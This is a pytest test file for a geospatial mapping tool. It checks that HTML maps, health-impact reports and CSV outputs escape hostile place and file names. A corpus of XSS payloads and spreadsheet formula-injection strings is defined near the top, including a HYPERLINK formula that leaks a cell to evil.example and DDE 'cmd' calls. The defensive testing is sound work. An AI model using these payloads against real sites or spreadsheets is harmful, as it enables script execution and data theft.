"""Shareable outputs are safe: no name from the data runs as script in a page or as a formula in a spreadsheet.

Issue 15, defect classes 1 and 2. A corpus of hostile names (script tags, event-handler attributes,
``javascript:`` URLs, quotes that break out of attributes, ``</script>``, Unicode tricks, spreadsheet
formula prefixes) is used as file names, GeoPackage layer names, column names, asset, site, ward and
area names; maps (``geotarget map``, :class:`MapBuilder`, ``geotarget run``), HIA reports, action-area
documents and every CSV are built from them and checked:

* every HTML page parses to the page's own elements only: no element or attribute the data brought
  (no ``<img>``, ``<svg>``, no ``on*=`` attribute, no ``javascript:`` URL), and the text is there, as
  written, in the map data or escaped in the page;
* every CSV cell that a spreadsheet would run as a formula starts with ``'`` (OWASP); numbers stay numbers;
* the code keeps no unsafe path: the map script never uses ``innerHTML`` and gives Leaflet text only,
  HTML documents are built only through :func:`geotarget.render.text.html`, and only
  ``geotarget/io/files.py`` writes CSV.

The same pages are opened in a browser by ``tests/test_browser_hostile.py``.
"""

from __future__ import annotations

import ast
import csv
import dataclasses
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geotarget.cli.main import main
from geotarget.io.files import FORMULA_PREFIXES, csv_cell, write_csv
from geotarget.render.maps import MapBuilder, read_data
from geotarget.render.text import html as html_of
from geotarget.render.text import html_join

ROOT = Path(__file__).resolve().parent.parent
PACKAGE = ROOT / "geotarget"
MAP_JS = PACKAGE / "render" / "maps" / "assets" / "geotarget.js"

#: Names that try to become markup or script in an HTML page (each would open a dialog if it ran).
SCRIPT_NAMES = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)' x='",
    "javascript:alert(5)",
    "</script><script>alert(6)</script>",
    '<iframe srcdoc="<script>alert(7)</script>">',
    "</title></style></textarea><img src=x onerror=alert(8)>",
    "&lt;img src=x onerror=alert(9)&gt;",  # already escaped: must be shown as written, not unescaped
    "{{constructor.constructor('alert(10)')()}}",  # template injection
    "${alert(11)}`",
    "\u202egnp.exe<img src=x onerror=alert(12)>",  # right-to-left override
    "\uff1cscript\uff1ealert(13)\uff1c/script\uff1e",  # full-width angle brackets
    '<a href="javascript:alert(14)">click</a>',
    "\u2028<img src=x onerror=alert(15)>\u2029",  # JavaScript line separators
    "<!-- <img src=x onerror=alert(16)> -->",
    "<math><mi xlink:href=\"javascript:alert(17)\">x</mi></math>",
]
#: Names that a spreadsheet would run as a formula or command.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
HOSTILE = SCRIPT_NAMES + FORMULA_NAMES
#: Names used as file names (GDAL cuts a file name at ";", so none has one).
FILE_NAMES = [SCRIPT_NAMES[0], SCRIPT_NAMES[2], FORMULA_NAMES[-1]]

#: Every element a geotarget map page is made of; anything else came from the data.
MAP_TAGS = {"html", "head", "title", "meta", "style", "script", "body", "div"}
#: ... and an HTML report (which holds a map page in ``<iframe srcdoc>``).
REPORT_TAGS = MAP_TAGS | {"p", "h1", "h2", "h3", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
                          "colgroup", "col", "em", "strong", "iframe"}


# -- checks ---------------------------------------------------------------------------------------------
class _Elements(HTMLParser):
    """Every start tag of a page with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_inert(page: str, allowed: set[str], *, scripts: int | None = None) -> list[str]:
    """Check that ``page`` holds only its own elements; return the pages inside its ``<iframe srcdoc>``."""
    parser = _Elements()
    parser.feed(page)
    parser.close()
    inner = []
    for tag, attrs in parser.elements:
        assert tag in allowed, f"element <{tag}> from the data: {attrs}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name}={value!r} on <{tag}>"
            assert name in {"class", "id", "type", "lang", "charset", "http-equiv", "content", "name", "title",
                            "srcdoc", "style"}, f"attribute {name!r} on <{tag}>"
            if name == "srcdoc":
                inner.append(value)
    if scripts is not None:
        assert sum(tag == "script" for tag, _ in parser.elements) == scripts
    # No script element can end early: the page's own scripts hold no "</script" (the data is \u003c-escaped).
    assert page.lower().count("<script") == page.lower().count("</script>")
    return inner


def assert_map_page(page: str) -> dict:
    """Check a map page (see :func:`assert_inert`; its scripts are the three of every map) and return its data."""
    assert_inert(page, MAP_TAGS, scripts=4)
    for name in SCRIPT_NAMES:
        if "<" in name:
            assert name not in page
    return read_data(page)


def strings_in(obj) -> set[str]:
    """Every string in a JSON-like object (map data)."""
    if isinstance(obj, str):
        return {obj}
    if isinstance(obj, dict):
        return set().union(*(strings_in(v) for v in obj.values()), set(map(str, obj)))
    if isinstance(obj, list):
        return set().union(set(), *(strings_in(v) for v in obj))
    return set()


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV as a spreadsheet gets it (header included)."""
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def assert_csv_safe(path: Path) -> list[str]:
    """Check no cell of ``path`` starts a formula (unless it is a plain number); return its cells."""
    cells = csv_cells(path)
    for cell in cells:
        if cell.startswith(FORMULA_PREFIXES):
            assert re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell), f"{path.name}: formula {cell!r}"
    return cells


def neutralised(name: str) -> str:
    """``name`` as a safe CSV cell holds it: after a ``'`` if it starts a formula; carriage returns as line feeds."""
    return ("'" + name if name.startswith(FORMULA_PREFIXES) else name).replace("\r\n", "\n").replace("\r", "\n")


# -- hostile inputs --------------------------------------------------------------------------------------
def names(n: int, offset: int = 0, corpus=HOSTILE) -> list[str]:
    """``n`` hostile names (cycling through the corpus), each made unique by a suffix where the corpus runs out."""
    out = []
    for i in range(n):
        k = i + offset
        out.append(corpus[k % len(corpus)] + ("" if k < len(corpus) else f" {k // len(corpus)}"))
    return out


#: Where the ward names start in the corpus: Hartlepool's 12 wards get script and formula names.
WARD_OFFSET = len(SCRIPT_NAMES) - 6


def hostile_study(vintage: int = 2025, council: str = "Hartlepool"):
    """Return a bundled council's study data with hostile ward, LSOA, MSOA and asset names."""
    from geotarget.data.load import load

    s = load(vintage=vintage, councils=[council])
    wards = s.wards.copy()
    ward_names = dict(zip(wards.index, names(len(wards), offset=WARD_OFFSET), strict=True))
    wards["ward_name"] = wards.index.map(ward_names)
    lsoas = s.lsoas.copy()
    lsoas["ward_name"] = lsoas["ward_code"].map(ward_names)
    lsoas["lsoa_name"] = names(len(lsoas), offset=3)
    lsoas["msoa_name"] = names(len(lsoas), offset=5)
    assets = s.assets.copy()
    assets["name"] = names(len(assets), offset=1)
    return dataclasses.replace(s, wards=wards, lsoas=lsoas, assets=assets)


def hostile_files(folder: Path, study) -> list[str]:
    """Files for ``geotarget map`` whose file names, layer names, column names and values are hostile.

    Returns ``--layers`` arguments: a file named ``<img src=x onerror=alert(1)>.gpkg`` (its one layer is
    labelled by the file name), a GeoPackage with two hostile layer names (labelled by the layer names),
    and a column with a hostile name and hostile categories.
    """
    folder.mkdir(parents=True, exist_ok=True)
    wards = study.wards.reset_index()
    column = SCRIPT_NAMES[2]
    wards[column] = names(len(wards), offset=7)
    single = folder / f"{FILE_NAMES[0]}.gpkg"
    wards.to_file(single, layer="wards", driver="GPKG")
    double = folder / f"{FILE_NAMES[1]}.gpkg"
    points = study.assets.reset_index(drop=True)[["name", "asset_type", "geometry"]].head(40).copy()
    points["asset_type"] = [SCRIPT_NAMES[i % 5] for i in range(len(points))]
    previous = pyogrio.get_gdal_config_option("GPKG_NAME_CHECK")
    pyogrio.set_gdal_config_options({"GPKG_NAME_CHECK": "NO"})  # GDAL refuses such names unless told
    try:
        wards.to_file(double, layer=SCRIPT_NAMES[1], driver="GPKG")
        points.to_file(double, layer=SCRIPT_NAMES[0], driver="GPKG", mode="a")
    finally:
        pyogrio.set_gdal_config_options({"GPKG_NAME_CHECK": previous})
    extra = folder / f"{FILE_NAMES[-1]}.geojson"
    wards[["ward_name", "geometry"]].to_file(extra, driver="GeoJSON")
    return [str(single), f"{single}:{column}", str(double), str(extra)]


def hostile_builder(study) -> MapBuilder:
    """Return a map whose every text comes from the corpus: titles, layers, legends, labels, tooltips, search."""
    lsoas, wards, assets = study.lsoas, study.wards, study.assets
    mb = MapBuilder(SCRIPT_NAMES[0], vintage=SCRIPT_NAMES[1], notes="\n".join(SCRIPT_NAMES[2:4]),
                    attribution=SCRIPT_NAMES[5], parameters={SCRIPT_NAMES[6]: SCRIPT_NAMES[7]})
    mb.add_deciles(lsoas, columns={"imd_decile": SCRIPT_NAMES[0], "health_decile": SCRIPT_NAMES[8]},
                   legend_title=SCRIPT_NAMES[9])
    mb.add_outlines(wards, SCRIPT_NAMES[1], label_column="ward_name", tooltip={"ward_name": SCRIPT_NAMES[10]})
    bands = lsoas.assign(band=np.where(lsoas["imd_decile"] <= 3, SCRIPT_NAMES[11], SCRIPT_NAMES[12]))
    mb.add_categories(bands, "band", SCRIPT_NAMES[2], tooltip={"band": SCRIPT_NAMES[13]}, show=True,
                      legend_title=SCRIPT_NAMES[14], search=["ward_name"])
    mb.add_choropleth(lsoas, "imd_score", SCRIPT_NAMES[3], legend_title=SCRIPT_NAMES[15],
                      tooltip={"lsoa_name": SCRIPT_NAMES[16]})
    points = assets.assign(kind=[SCRIPT_NAMES[i % 6] for i in range(len(assets))])
    mb.add_points(points, SCRIPT_NAMES[4], category_column="kind", label_column="name",
                  popup={"name": SCRIPT_NAMES[5], "kind": SCRIPT_NAMES[6]},
                  icons={SCRIPT_NAMES[0]: "<b"})
    mb.add_search(points, "name", kind=SCRIPT_NAMES[7])
    return mb


# -- the code keeps no unsafe path --------------------------------------------------------------------------
def _js() -> str:
    text = MAP_JS.read_text(encoding="utf-8")
    return re.sub(r"/\*.*?\*/", "", text, flags=re.DOTALL)  # (comments may name what is forbidden)


def test_map_script_never_puts_data_in_as_html():
    js = _js()
    for forbidden in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                      "createContextualFragment", "DOMParser", "setHTML", "srcdoc"):
        assert forbidden not in js, forbidden
    # Leaflet's own layer control puts layer names in as HTML: only the text-label one is used.
    assert "L.control.layers(" not in js and "new L.Control.Layers(" not in js
    assert "new TextLayers(" in js
    # The attribution line is HTML in Leaflet: only escaped text (or a constant prefix) goes there.
    assert re.findall(r"addAttribution\(([^;]*)\);", js) == ["htmlText(spec.attribution)"]
    assert all(a.startswith(("'", '"')) for a in re.findall(r"setPrefix\(([^;]*)\);", js))
    assert js.count("htmlText(") == 2  # its definition and the attribution
    # Markers and labels get DOM elements, never HTML strings.
    for value in re.findall(r"\bhtml:\s*([^,}]+)", js):
        assert re.fullmatch(r"[A-Za-z_]\w*", value.strip()), f"divIcon html: {value}"
    # Tooltips, popups and search tips are built as elements (a function returning one, or el(...)).
    for call in re.findall(r"\.(?:bindTooltip|bindPopup|setContent|setTooltipContent|setPopupContent)\(\s*([^,)]*)",
                           js):
        assert call.startswith(("function", "el(")), call
    assert re.search(r"buildTip:\s*function\s*\(text\)\s*\{\s*return el\(", js)


def _html_modules() -> list[Path]:
    """Modules that write HTML documents (maps and reports)."""
    return sorted((PACKAGE / "render").rglob("*.py")) + [PACKAGE / "hia" / "report.py"]


#: An HTML tag in a string of the code (not ``<domain>`` in a message, nor XML written by ElementTree).
_TAG = re.compile(r"</?(?:!doctype\s+html|html|head|body|title|meta|link|style|script|div|span|p|a|b|i|em|strong|"
                  r"h[1-6]|ul|ol|li|dl|dt|dd|table|thead|tbody|tr|th|td|col|colgroup|caption|iframe|img|svg|br|hr|"
                  r"form|input|label|button|pre|code|small|sup|sub|section|footer|header|nav|details|summary)\b",
                  re.IGNORECASE)


def _unsafe_html_building(path: Path) -> list[str]:
    """Places in ``path`` where a value is put into HTML other than through :func:`geotarget.render.text.html`."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []

    def tagged(node) -> bool:
        return isinstance(node, ast.Constant) and isinstance(node.value, str) and bool(_TAG.search(node.value))

    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.JoinedStr) and any(isinstance(v, ast.FormattedValue) for v in node.values) \
                and any(tagged(v) for v in node.values):
            found.append(f"{where}: f-string with markup")
        elif isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)) \
                and (tagged(node.left) or tagged(node.right)) and not (tagged(node.left) and tagged(node.right)):
            found.append(f"{where}: markup joined to a value with + or %")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr in ("format", "join") and tagged(node.func.value):
            found.append(f"{where}: markup .{node.func.attr}()")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "Markup" \
                and path.name != "text.py":
            arg = node.args[0] if node.args else None
            if not (isinstance(arg, ast.Constant) or (isinstance(arg, ast.Name) and arg.id.lstrip("_").isupper())):
                found.append(f"{where}: Markup() of a value")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "html" \
                and path.name != "text.py":
            arg = node.args[0] if node.args else None
            constant = isinstance(arg, ast.Constant) or (isinstance(arg, ast.Subscript) and isinstance(
                arg.value, ast.Name) and arg.value.id.lstrip("_").isupper())
            if not constant:
                found.append(f"{where}: html() template that is not a literal")
    return found


def test_html_is_built_only_through_the_escaping_path():
    found = [f for path in _html_modules() for f in _unsafe_html_building(path)]
    assert found == []


def test_the_scanner_finds_what_it_forbids(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text('name = "x"\na = f"<li>{name}</li>"\nb = "<p>" + name\nc = "<td>{}</td>".format(name)\n'
                   'd = "<td>%s</td>" % name\ne = Markup(name)\nf = html(name)\ng = "<br>".join([name])\n')
    assert len(_unsafe_html_building(bad)) == 7


def test_only_the_page_module_knows_folium_and_passes_it_no_text_as_html():
    users = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                mods = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                if any(m.split(".")[0] in ("folium", "branca") for m in mods):
                    users.append(path.relative_to(PACKAGE).as_posix())
    assert sorted(set(users)) == ["render/maps/page.py"]
    page = (PACKAGE / "render" / "maps" / "page.py").read_text(encoding="utf-8")
    # folium's layer names, popups and tooltips are HTML: geotarget uses none of them (its script draws
    # every layer from the escaped JSON data).
    for feature in ("FeatureGroup", "LayerControl", "Popup", "Tooltip", "GeoJson", "Marker(", "add_child(folium"):
        assert feature not in page, feature
    # The one text folium puts in the page is the title, escaped.
    assert "root.title = html_text(title)" in page


def test_only_the_file_writers_write_csv():
    callers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter") and (
                    node.attr == "to_csv" or (isinstance(node.value, ast.Name) and node.value.id == "csv")):
                callers.append(f"{path.relative_to(PACKAGE).as_posix()}:{node.lineno}")
    # (io/fetch.py keeps a download as it came, to be read back as an input: a cache, not an output.)
    assert [c for c in callers if not c.startswith(("io/files.py:", "io/fetch.py:"))] == []


# -- the one HTML path and the one CSV path ----------------------------------------------------------------
@pytest.mark.parametrize("name", SCRIPT_NAMES)
def test_html_path_escapes_every_name(name):
    page = str(html_of('<ul title="{}">{}</ul>', name, html_join(html_of("<li>{}</li>", n) for n in (name, name))))
    assert_inert(page, {"ul", "li"})
    assert html.unescape(page) == f'<ul title="{name}"><li>{name}</li><li>{name}</li></ul>'


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_csv_cells_that_start_a_formula_get_a_quote(tmp_path, name):
    frame = pd.DataFrame({"name": [name, "Norton"], name: [1, 2]}, index=pd.Index([name, "b"], name=name + " i"))
    before = frame.copy()
    write_csv(tmp_path / "t.csv", frame, index=True)
    pd.testing.assert_frame_equal(frame, before)  # the input is not changed
    cells = assert_csv_safe(tmp_path / "t.csv")
    safe = neutralised(name)
    assert cells == [safe + " i", "name", safe, safe, safe, "1", "b", "Norton", "2"]


def test_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"x": [-1.5, 2.0], "text": ["-1.5", "+3"], "n": [-2, 5], "e": ["-2e-05", "- 5"],
                          "cat": pd.Categorical(["=A1", "b"]), "s": pd.array(["@x", None], dtype="string")})
    write_csv(tmp_path / "n.csv", frame)
    assert (tmp_path / "n.csv").read_text().splitlines() == [
        "x,text,n,e,cat,s", "-1.5,-1.5,-2,-2e-05,'=A1,'@x", "2.0,+3,5,'- 5,b,"]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\"',;|!ab1.0 eE<>")), max_size=12))
def test_any_text_reads_back_as_written_or_quoted(text):
    out = csv_cell(text)
    normal = text.replace("\r\n", "\n").replace("\r", "\n")
    assert out in (normal, "'" + normal) and "\r" not in out
    assert not out.startswith(FORMULA_PREFIXES) or re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", out)


# -- maps -------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def study():
    return hostile_study()


@pytest.fixture(scope="module")
def hostile_map_files(tmp_path_factory, study):
    folder = tmp_path_factory.mktemp("hostile_files")
    layers = hostile_files(folder / "in", study)
    out = folder / "map.html"
    assert main(["map", "--layers", *layers, "--out", str(out), "-q"]) == 0
    return out, layers


def test_geotarget_map_shows_file_layer_and_column_names_as_text(hostile_map_files, study):
    out, _ = hostile_map_files
    spec = assert_map_page(out.read_text(encoding="utf-8"))
    layer_names = [layer["name"] for layer in spec["layers"]]
    # the file name, the two layer names and the column name label layers, as written
    assert FILE_NAMES[0] in layer_names and SCRIPT_NAMES[1] in layer_names and SCRIPT_NAMES[0] in layer_names
    assert f"{FILE_NAMES[0]}: {SCRIPT_NAMES[2]}" in layer_names and FILE_NAMES[-1] in layer_names
    texts = strings_in(spec)
    assert {*study.wards["ward_name"], *names(12, offset=7)} <= texts  # ward names as labels and categories


def test_map_builder_escapes_every_text_it_shows(tmp_path, study):
    mb = hostile_builder(study)
    page = mb.save(tmp_path / "m.html").read_text(encoding="utf-8")
    spec = assert_map_page(page)
    assert set(SCRIPT_NAMES) <= strings_in(spec)
    assert spec["title"] == SCRIPT_NAMES[0] and spec["attribution"] == SCRIPT_NAMES[5]
    assert html.unescape(re.search(r"<title>(.*?)</title>", page, re.DOTALL).group(1)) == SCRIPT_NAMES[0]


@pytest.mark.filterwarnings("ignore:Glyph")
def test_static_svg_map_holds_names_as_text(tmp_path, study):
    """A static SVG (which a browser would run script in) is well-formed XML with the names as text."""
    import xml.etree.ElementTree as ET

    mb = hostile_builder(study)
    path = mb.save_static(tmp_path / "m.svg", layers=[SCRIPT_NAMES[1], SCRIPT_NAMES[2]], title=SCRIPT_NAMES[0], dpi=50)
    root = ET.parse(path).getroot()
    tags = {el.tag.rsplit("}", 1)[-1] for el in root.iter()}
    assert not tags & {"script", "img", "iframe", "foreignObject", "a"}
    assert not [k for el in root.iter() for k in el.attrib if k.rsplit("}", 1)[-1].lower().startswith("on")]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, study):
    from geotarget.jobs.run import run

    out = tmp_path_factory.mktemp("hostile_run")
    run(study, out=out)
    return out


def test_run_map_and_every_csv_are_safe(hostile_run, study):
    spec = assert_map_page((hostile_run / "imd2025_map.html").read_text(encoding="utf-8"))
    assert set(study.wards["ward_name"]) <= strings_in(spec)
    csvs = sorted(hostile_run.rglob("*.csv"))
    assert {"imd2025_wards.csv", "imd2025_councils.csv", "imd2025_lsoas.csv", "access.csv", "action_areas.csv"} <= {
        p.name for p in csvs}
    cells = {p.name: assert_csv_safe(p) for p in csvs}
    for ward in study.wards["ward_name"]:  # every ward, as written or (formulas) after a quote
        assert neutralised(ward) in cells["imd2025_wards.csv"], ward
    assert any(w.startswith(FORMULA_PREFIXES) for w in study.wards["ward_name"])
    # asset names reach access.csv (nearest asset per LSOA), formulas neutralised
    safe_names = {neutralised(n) for n in study.assets["name"]}
    nearest = [c for c in cells["access.csv"] if c in safe_names]
    assert any(c.startswith("'") for c in nearest) and any("<" in c for c in nearest)
    md = (hostile_run / "action_areas.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<", md)  # no raw tag in the committee Markdown


def test_access_rejects_keep_hostile_names_safe(tmp_path, study):
    from geotarget.io.assets import read_assets
    from geotarget.jobs.access import assess_access, write_access

    pts = study.assets.geometry.head(len(HOSTILE))
    rows = pd.DataFrame({"name": HOSTILE, "category": "gp", "easting": pts.x.round(1).to_numpy(),
                         "northing": pts.y.round(1).to_numpy()})
    rows.loc[rows.index % 3 == 0, ["easting", "northing"]] = np.nan  # cannot be located: rejected, named
    rows.to_csv(tmp_path / "assets.csv", index=False)
    read = read_assets(tmp_path / "assets.csv", category_column="category", name_column="name")
    assert len(read.rejects) == 8
    res = assess_access(study, read)
    paths = write_access(res, tmp_path / "out")
    rejected = assert_csv_safe(paths["rejects"])
    assert {neutralised(n) for n in HOSTILE[::3]} <= set(rejected)
    located = assert_csv_safe(paths["access"])
    assert {neutralised(n) for n in res.access["nearest_gp"]} <= set(located)


# -- HIA reports --------------------------------------------------------------------------------------------
SITES = {SCRIPT_NAMES[0]: "TS18 1AU", FORMULA_NAMES[0]: "441500,515000", SCRIPT_NAMES[2]: "449500,520000",
         FORMULA_NAMES[3]: "TS99 9ZZ"}  # the last cannot be located: a reject, named


@pytest.fixture(scope="module")
def hostile_hia(tmp_path_factory):
    from geotarget.hia.report import run_hia

    folder = tmp_path_factory.mktemp("hostile_hia")
    sites = folder / "sites.csv"
    # (not through write_csv, which would make the names safe: the reader gets them raw)
    pd.DataFrame({"name": list(SITES), "location": list(SITES.values())}).to_csv(sites, index=False)
    res = run_hia(sites=str(sites), out=folder / "out", generated="2025-11-01")
    return folder / "out", res


def test_hia_reports_show_site_names_as_text(hostile_hia):
    out, res = hostile_hia
    assert len(res.screenings) == 3 and len(res.rejects) == 1
    for sc, slug in zip(res.screenings, res.slugs, strict=True):
        page = (out / f"{slug}.html").read_text(encoding="utf-8")
        # the report's own static map (for print): one PNG as a data: URI under a fixed alt text, then nothing else
        (img,) = re.findall(r'<img class="map-static print-only" alt="[^"<>&]*" '
                            r'src="data:image/png;base64,[A-Za-z0-9+/]+=*">', page)
        (inner,) = assert_inert(page.replace(img, ""), REPORT_TAGS, scripts=0)
        spec = assert_map_page(inner)
        assert sc.site.name in strings_in(spec)
        assert html.escape(sc.site.name) in page
        md = (out / f"{slug}.md").read_text(encoding="utf-8")
        assert not re.search(r"(?<!\\)<", md)


def test_hia_csvs_neutralise_formula_names(hostile_hia):
    out, _ = hostile_hia
    comp = assert_csv_safe(out / "sites_comparison.csv")
    assert "'" + FORMULA_NAMES[0] in comp and SCRIPT_NAMES[0] in comp
    rejected = assert_csv_safe(out / "sites_rejected.csv")
    assert "'" + FORMULA_NAMES[3] in rejected


# -- action areas -------------------------------------------------------------------------------------------
def test_action_area_documents_from_hostile_ward_names(tmp_path, study):
    from geotarget.analysis.target import target_areas
    from geotarget.render.action_areas import write_action_areas

    res = target_areas(study.lsoas, vintage=study.vintage, n=None)
    paths = write_action_areas(res, tmp_path, title=SCRIPT_NAMES[0])
    area_names = res.areas["name"].tolist()
    assert any(n.startswith(FORMULA_PREFIXES) for n in area_names) or any("<" in n for n in area_names)
    cells = assert_csv_safe(paths["csv"])
    for n in area_names:
        assert neutralised(n) in cells, n
    for p in ("profiles", "sensitivity", "set_aside"):
        assert_csv_safe(paths[p])
    md = paths["md"].read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<", md) and "\\<img src=x onerror=alert(1)\\>" in md


def test_write_csv_in_every_job_module_is_the_safe_one():
    """The jobs and renderers import ``write_csv`` from geotarget.io.files (the one neutralising writer)."""
    import geotarget.io.files as files

    for module in ("geotarget.jobs.run", "geotarget.jobs.profiles", "geotarget.jobs.access",
                   "geotarget.jobs.analyses", "geotarget.render.action_areas", "geotarget.hia.report"):
        mod = __import__(module, fromlist=["write_csv"])
        assert mod.write_csv is files.write_csv, module


def test_the_hostile_names_survive_the_readers(study):
    """The corpus really reaches the outputs: the study keeps the names as given."""
    assert set(names(len(study.wards), offset=WARD_OFFSET)) == set(study.wards["ward_name"])
    assert isinstance(study.wards, gpd.GeoDataFrame)
